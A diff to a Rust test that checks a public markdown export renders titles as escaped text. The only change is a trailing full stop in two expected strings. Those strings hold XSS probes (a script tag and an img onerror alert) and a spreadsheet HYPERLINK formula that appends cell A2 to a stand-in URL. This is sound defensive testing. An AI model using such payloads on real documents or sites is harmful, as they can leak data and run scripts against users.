@@ -413,7 +413,7 @@ async fn the_public_markdown_shows_html_and_markdown_in_a_title_as_text() {
     }
     assert!(
         md.contains(
-            "\n2. &lt;script&gt;alert(1)&lt;/script&gt;\\|表格\\|&lt;img src=x onerror=alert(1)&gt;。\\# 不是标题\n\\- 不是列表\n\n不是代码\n"
+            "\n2. &lt;script&gt;alert(1)&lt;/script&gt;\\|表格\\|&lt;img src=x onerror=alert(1)&gt;。\\# 不是标题\n\\- 不是列表\n\n不是代码。\n"
         ),
         "{md}"
     );
@@ -422,7 +422,7 @@ async fn the_public_markdown_shows_html_and_markdown_in_a_title_as_text() {
         "{md}"
     );
     assert!(
-        md.contains("\n1. \\=HYPERLINK(\"http://example.invalid/?\"&amp;A2,\"点击查看详情\")。-2+3 问题描述\n"),
+        md.contains("\n1. \\=HYPERLINK(\"http://example.invalid/?\"&amp;A2,\"点击查看详情\")。-2+3 问题描述。\n"),
         "{md}"
     );
     // The only HTML is the bulletin's own signature lines.
